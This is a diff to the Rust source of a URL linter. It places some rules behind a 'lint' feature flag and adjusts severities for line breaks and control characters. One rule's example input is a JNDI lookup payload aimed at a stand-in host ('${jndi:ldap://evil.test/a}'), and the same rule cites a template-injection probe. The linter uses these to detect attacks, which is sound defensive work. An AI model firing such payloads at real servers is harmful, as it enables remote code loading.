@@ -3,58 +3,87 @@
 
 use super::context::{Context, Severity};
 
+/// Whether all rules are checked. Without the feature `lint`, the code and the tables of the others are left out by the
+/// compiler, and so are their texts.
+pub(super) const FULL: bool = cfg!(feature = "lint");
+
+/// A text that is needed only with the feature.
+const fn only(text: &'static str) -> &'static str {
+    if FULL { text } else { "" }
+}
+
 macro_rules! rules {
-    ($($(#[$doc:meta])* $name:ident $id:literal $severity:ident $reference:literal $message:literal
-        $context:ident $example:literal $advice:literal;)*) => {
+    (
+        always { $($(#[$doc:meta])* $name:ident $id:literal $severity:ident $reference:literal $message:literal
+            $context:ident $example:literal $advice:literal;)* }
+        with_the_feature { $($(#[$more_doc:meta])* $more:ident $more_id:literal $more_severity:ident $more_reference:literal $more_message:literal
+            $more_context:ident $more_example:literal $more_advice:literal;)* }
+    ) => {
         /// A rule that [`lint`](super::lint) checks. The documentation of each rule is an example of what it finds.
         #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
         #[non_exhaustive]
         pub enum Rule {
             $($(#[$doc])* $name,)*
+            $($(#[$more_doc])* $more,)*
         }
 
         impl Rule {
-            /// All rules.
-            pub const ALL: &'static [Rule] = &[$(Rule::$name,)*];
+            /// All rules that are checked. Without the feature `lint` these are fewer.
+            pub const ALL: &'static [Rule] = match FULL {
+                true => &[$(Rule::$name,)* $(Rule::$more,)*],
+                false => &[$(Rule::$name,)*],
+            };
+
+            /// Whether the rule is checked only with the feature `lint`.
+            pub(super) const fn needs_feature(self) -> bool {
+                match self {
+                    $(Rule::$name => false,)*
+                    $(Rule::$more => true,)*
+                }
+            }
 
             /// The stable name, for programs, such as `double-encoding`.
             #[must_use]
             pub const fn id(self) -> &'static str {
-                match self { $(Rule::$name => $id,)* }
+                match self { $(Rule::$name => $id,)* $(Rule::$more => only($more_id),)* }
             }
 
             /// What a finding of this rule means, for a person.
             #[must_use]
             pub const fn message(self) -> &'static str {
-                match self { $(Rule::$name => $message,)* }
+                match self { $(Rule::$name => $message,)* $(Rule::$more => only($more_message),)* }
             }
 
             /// The clause or the CWE entry that explains the rule.
             #[must_use]
             pub const fn reference(self) -> &'static str {
-                match self { $(Rule::$name => $reference,)* }
+                match self { $(Rule::$name => $reference,)* $(Rule::$more => only($more_reference),)* }
             }
 
             /// What to do about a finding.
             #[must_use]
             pub const fn advice(self) -> &'static str {
-                match self { $(Rule::$name => $advice,)* }
+                match self { $(Rule::$name => $advice,)* $(Rule::$more => only($more_advice),)* }
             }
 
             /// A text in which [`lint`](super::lint) finds the rule, and its context.
             #[must_use]
             pub const fn example(self) -> (Context, &'static [u8]) {
-                match self { $(Rule::$name => (Context::$context, $example),)* }
+                match self {
+                    $(Rule::$name => (Context::$context, $example),)*
+                    $(Rule::$more => (Context::$more_context, $more_example),)*
+                }
             }
 
             const fn base_severity(self) -> Severity {
-                match self { $(Rule::$name => Severity::$severity,)* }
+                match self { $(Rule::$name => Severity::$severity,)* $(Rule::$more => Severity::$more_severity,)* }
             }
         }
     };
 }
 
 rules! {
+    always {
     /// `%zz`: a malformed triplet.
     MalformedEscape "malformed-escape" Error "RFC 3986 2.1" "a `%` without two hexadecimal digits; decoders refuse it, keep it or drop it"
         Path b"/100%" "Encode a percent sign that is text as `%25`.";
@@ -172,6 +201,8 @@ rules! {
     /// `CON`.
     WindowsDevice "windows-device" Info "CWE-67" "the name of a device on Windows"
         Path b"/files/NUL" "Refuse the names of devices before you open a file.";
+    }
+    with_the_feature {
     // The grammar.
     /// `4files://a`: no scheme, but a colon in the first segment.
     InvalidScheme "invalid-scheme" Error "RFC 3986 3.1, 4.2" "a `:` before the first slash, but no scheme before it"
@@ -309,6 +340,7 @@ rules! {
     /// `${jndi:…}`, `{{7*7}}`.
     Expression "expression" Info "CWE-917, CWE-1336" "an expression of a template or of a logger"
         Query b"x=${jndi:ldap://evil.test/a}" "Never expand text that comes from outside.";
+    }
 }
 
 impl Rule {
@@ -328,7 +360,14 @@ impl Rule {
             // Old pages send other charsets there, and queries are often cut.
             Rule::InvalidUtf8 | Rule::TruncatedUtf8 if context.is_free_text() => Severity::Info,
             // Values that people write have line breaks: see `Linter::line_break`.
-            Rule::Crlf if context.is_free_text() => Severity::Warn,
+            Rule::Crlf if context.is_free_text() && FULL => Severity::Warn,
+            Rule::Crlf | Rule::ControlChar if context.is_free_text() && !FULL => {
+                if matches!(self, Rule::Crlf) || context == Context::Form {
+                    Severity::Info
+                } else {
+                    Severity::Error
+                }
+            }
             Rule::ControlChar if context == Context::Form => Severity::Warn,
             // Programs leave such characters as they are there, and it works.
             Rule::DisallowedChar | Rule::RawSpace if context.is_free_text() => Severity::Info,
